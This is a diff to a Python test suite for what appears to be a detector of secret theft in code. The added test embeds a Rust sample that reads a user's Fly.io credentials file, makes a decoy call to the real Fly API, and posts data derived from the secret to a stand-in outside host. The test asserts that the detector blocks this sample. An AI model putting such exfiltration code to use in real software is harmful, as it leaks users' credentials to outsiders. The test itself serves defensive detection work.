@@ -296,6 +296,17 @@ def test_a_theft_is_seen_whatever_holds_the_secret_between(source: str) -> None:
     assert verdict(source) is Verdict.BLOCK
 
 
+def test_an_own_service_inside_hides_no_stranger_outside() -> None:
+    source = """
+        fn token() -> String {
+            let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".fly/config.yml")).unwrap();
+            ureq::get("https://api.fly.io/graphql").set("x-token", "1").call().ok();
+            x
+        }
+        pub fn go() { let n = token().len(); ureq::post("https://c.invalid/k").send_string(&n.to_string()).ok(); }"""
+    assert verdict(source) is Verdict.BLOCK
+
+
 @pytest.mark.parametrize("default", DEFAULTS.values(), ids=DEFAULTS)
 def test_the_default_of_a_variable_is_a_host_as_well(default: str) -> None:
     source = f"""
